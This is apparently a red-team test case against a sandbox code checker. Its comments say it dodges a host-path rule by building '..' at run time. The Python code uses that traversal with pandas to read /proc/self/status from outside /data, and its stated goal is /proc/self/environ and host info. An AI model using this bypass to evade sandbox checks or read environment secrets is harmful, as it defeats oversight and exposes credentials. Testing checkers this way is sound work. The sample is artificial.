# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 5 f-string path under /data with '..' at run time
# source: own; README host-path rule (f-string starting with /data/)
# family: host-path rule: f-string prefix with runtime '..' (read /proc)
# goal: read /proc/self/environ and /proc/1/cmdline-like host info through np.loadtxt/pd.read_csv
# needs-data
import json
import pandas as pd

up = "." * 2
env = pd.read_csv(f"/data/{up}/proc/self/status", sep="\x01", header=None, engine="python")
print(json.dumps({"evidence": env.head(4).to_dict()}))
